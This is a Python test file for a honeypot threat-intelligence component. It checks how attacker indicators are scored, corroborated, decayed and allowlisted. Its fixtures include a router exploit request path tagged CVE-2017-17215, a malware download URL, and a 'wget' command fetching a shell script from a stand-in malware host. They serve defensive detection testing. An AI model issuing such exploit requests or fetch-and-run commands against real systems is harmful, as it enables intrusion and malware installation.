"""Indicators move as docs/intel.md says: roles from behaviour, noisy-OR corroboration, decay, states."""

from __future__ import annotations

import math
from datetime import UTC, datetime, timedelta

import pytest

from honeyguard.clock import FakeClock, SeededEntropy
from honeyguard.intel.book import IndicatorBook, indicator_id
from honeyguard.intel.params import load_params
from honeyguard.model import (
    Connect,
    Download,
    Event,
    EventBody,
    HttpRequest,
    Ioc,
    SshLogin,
    UuidV7Factory,
)

T0 = datetime(2026, 5, 1, tzinfo=UTC)
PARAMS = load_params()
IDS = UuidV7Factory(SeededEntropy(3))


def ev(
    body: EventBody,
    *,
    at: datetime = T0,
    sensor: str = "s1",
    location: str = "eu",
    src: str = "198.51.100.20",
    cves: list[str] | None = None,
    techniques: list[str] | None = None,
    iocs: list[Ioc] | None = None,
) -> Event:
    return Event(
        id=IDS.new(at),
        ts=at,
        sensor=sensor,
        location=location,
        session="x",
        kind=body.__struct_config__.tag,
        src_ip=src,
        src_port=40000,
        dst_port=80,  # type: ignore[arg-type]
        protocol="http",
        body=body,
        cves=cves or [],
        techniques=techniques or [],
        iocs=iocs or [],
    )


def get(target: str = "/") -> HttpRequest:
    return HttpRequest(method="GET", target=target, version="HTTP/1.1", headers=[])


def expected(strengths_by_source: list[list[float]], decay: float = 1.0) -> int:
    survival = 1.0
    for strengths in strengths_by_source:
        p = min(PARAMS.source_cap, 1 - math.exp(-sum(strengths) * decay))
        survival *= 1 - p
    return round(100 * (1 - survival))


def test_a_bare_probe_is_a_weak_scanner_candidate() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events([ev(get())])
    ind = book.get("ip", "198.51.100.20", T0)
    assert ind is not None
    assert ind.roles == ["scanner"]
    assert ind.confidence == expected([[PARAMS.strength_of("probe")]])
    assert ind.state == "expired"  # a single probe is below the expiry threshold


def test_an_exploit_outweighs_many_probes_and_reveals_the_malware_host() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events([ev(get(), src="198.51.100.1") for _ in range(5)])
    url = "http://203.0.113.50/bins/mips"
    exploit = ev(
        get("/shell?cd+/tmp"),
        src="198.51.100.2",
        cves=["CVE-2017-17215"],
        techniques=["T1190"],
        iocs=[Ioc(type="url", value=url, role="download")],
    )
    book.observe_events([exploit])
    prober = book.get("ip", "198.51.100.1", T0)
    exploiter = book.get("ip", "198.51.100.2", T0)
    assert prober is not None and exploiter is not None
    assert exploiter.roles == ["exploiter"] and exploiter.cves == ["CVE-2017-17215"]
    assert exploiter.confidence > prober.confidence
    assert exploiter.confidence == expected([[PARAMS.strength_of("exploit")]])
    host = book.get("ip", "203.0.113.50", T0)
    assert host is not None and host.roles == ["malware-host"]
    located = book.get("url", url, T0)
    assert located is not None and located.roles == ["download"]


def test_corroboration_across_sensors_is_noisy_or_and_verifies() -> None:
    book = IndicatorBook(PARAMS)
    strength = PARAMS.strength_of("exploit")
    book.observe_events([ev(get(), cves=["CVE-2021-44228"], sensor="s1", location="eu")])
    one = book.get("ip", "198.51.100.20", T0)
    book.observe_events([ev(get(), cves=["CVE-2021-44228"], sensor="s2", location="us")])
    two = book.get("ip", "198.51.100.20", T0)
    assert one is not None and two is not None
    assert one.confidence == expected([[strength]]) and one.state == "candidate"
    assert two.confidence == expected([[strength], [strength]]) and two.state == "verified"
    assert two.sensors == ["s1", "s2"] and two.locations == ["eu", "us"]


def test_one_sensor_alone_is_capped() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events([ev(get(), cves=["CVE-2021-44228"]) for _ in range(50)])
    ind = book.get("ip", "198.51.100.20", T0)
    assert ind is not None
    assert ind.confidence == round(100 * PARAMS.source_cap)
    assert ind.state == "candidate"  # strong, but seen by one sensor only


def test_decay_follows_the_half_life_and_new_sightings_renew() -> None:
    clock = FakeClock(T0)
    book = IndicatorBook(PARAMS)
    book.observe_events(
        [ev(SshLogin(username="root", method="password", password="x"), src="198.51.100.9") for _ in range(3)]
    )
    half_life = PARAMS.half_life_seconds("ip", "bruteforcer")
    s = PARAMS.strength_of("bruteforce")
    start = book.get("ip", "198.51.100.9", clock.now())
    clock.advance(half_life)
    later = book.get("ip", "198.51.100.9", clock.now())
    assert start is not None and later is not None
    assert start.confidence == expected([[s, s, s]])
    assert later.confidence == expected([[s, s, s]], decay=0.5)
    clock.advance(half_life * 10)
    gone = book.get("ip", "198.51.100.9", clock.now())
    assert gone is not None and gone.state == "expired"
    book.observe_events(
        [
            ev(SshLogin(username="root", method="password", password="x"), src="198.51.100.9", at=clock.now())
            for _ in range(20)
        ]
    )
    back = book.get("ip", "198.51.100.9", clock.now())
    assert back is not None and back.state == "candidate" and back.confidence > later.confidence


def test_domains_decay_slower_than_scanner_ips() -> None:
    assert PARAMS.half_life_seconds("domain", "malware-host") > PARAMS.half_life_seconds("ip", "scanner")
    assert PARAMS.half_life_seconds("sha256", "malware") > PARAMS.half_life_seconds("domain", "c2")


def test_allowlisted_values_never_leave_allowlisted() -> None:
    book = IndicatorBook(PARAMS)
    book.allowlist("ip", "198.51.100.20", T0)
    book.observe_events([ev(get(), cves=["CVE-2021-44228"], sensor=f"s{i}", location=f"l{i}") for i in range(5)])
    ind = book.get("ip", "198.51.100.20", T0)
    assert ind is not None and ind.state == "allowlisted" and ind.confidence > 50


def test_feed_imports_keep_their_source_and_score_with_it() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_feed(type_="domain", value="evil.example", role="c2", confidence=80, source="partner.csv", at=T0)
    ind = book.get("domain", "evil.example", T0)
    assert ind is not None
    assert ind.sources == ["feed:partner.csv"] and ind.confidence == 80
    explanation = book.explain("domain", "evil.example", T0 + timedelta(days=60))
    assert explanation is not None
    assert explanation.score.sources[0].roles[0].half_life_days == 60
    assert explanation.indicator.confidence == round(100 * (1 - (1 - 0.8) ** 0.5))


def test_evidence_is_bounded_and_keeps_the_strongest() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events([ev(get()) for _ in range(100)])
    book.observe_events([ev(get(), cves=["CVE-2014-6271"])])
    ind = book.get("ip", "198.51.100.20", T0)
    assert ind is not None
    assert len(ind.evidence) == PARAMS.evidence_kept
    assert any("CVE-2014-6271" in e.reason for e in ind.evidence)


def test_downloads_and_connects() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events(
        [
            ev(Connect()),
            ev(Download(url="http://malware.example/x.sh", tool="wget", command="wget http://malware.example/x.sh")),
        ]
    )
    host = book.get("domain", "malware.example", T0)
    assert host is not None and host.roles == ["malware-host"]
    src = book.get("ip", "198.51.100.20", T0)
    assert src is not None and src.roles == ["exploiter"]


def test_ids_are_stable() -> None:
    assert indicator_id("ip", "1.2.3.4") == indicator_id("ip", "1.2.3.4") != indicator_id("domain", "1.2.3.4")


@pytest.mark.parametrize("bad", ["", "http://", "not a url at all"])
def test_junk_urls_reveal_no_host(bad: str) -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events([ev(get(), iocs=[Ioc(type="url", value=bad, role="download")])])
    hosts = [i for i in book.indicators(T0) if i.type in ("ip", "domain") and i.value != "198.51.100.20"]
    assert hosts == []


def test_the_quick_confidence_is_the_explained_one() -> None:
    """get/indicators skip the explanation's terms: the figure and state must not change for it."""
    book = IndicatorBook(PARAMS)
    kinds: list[EventBody] = [get(), SshLogin(username="root", method="password", password="x"), Connect()]
    events = [
        ev(
            kinds[i % 3],
            at=T0 + timedelta(hours=i),
            sensor=f"s{i % 3}",
            location=f"l{i % 2}",
            src=f"198.51.100.{i % 7}",
            cves=["CVE-2021-44228"] if i % 5 == 0 else None,
            iocs=[Ioc(type="url", value=f"http://203.0.113.{i % 4}/x", role="download")] if i % 6 == 0 else None,
        )
        for i in range(60)
    ]
    book.observe_events(events)
    book.observe_feed(type_="ip", value="198.51.100.3", role="scanner", confidence=70, source="feed.csv", at=T0)
    for later in (timedelta(0), timedelta(days=3), timedelta(days=40)):
        now = T0 + timedelta(hours=60) + later
        indicators = book.indicators(now)
        assert len(indicators) >= 10
        for indicator in indicators:
            explained = book.explain(indicator.type, indicator.value, now)
            assert explained is not None
            assert indicator.confidence == explained.score.confidence == explained.indicator.confidence
            assert indicator.state == explained.indicator.state


def test_take_touched_gives_each_changed_indicator_once() -> None:
    book = IndicatorBook(PARAMS)
    book.observe_events([ev(get(), src="198.51.100.1"), ev(get(), src="198.51.100.1"), ev(get(), src="198.51.100.2")])
    first = book.take_touched(T0)
    assert sorted(i.value for i in first) == ["198.51.100.1", "198.51.100.2"]
    assert next(i for i in first if i.value == "198.51.100.1").sightings == 2
    assert book.take_touched(T0) == []
    book.observe_events([ev(get(), src="198.51.100.2")])
    assert [i.value for i in book.take_touched(T0)] == ["198.51.100.2"]
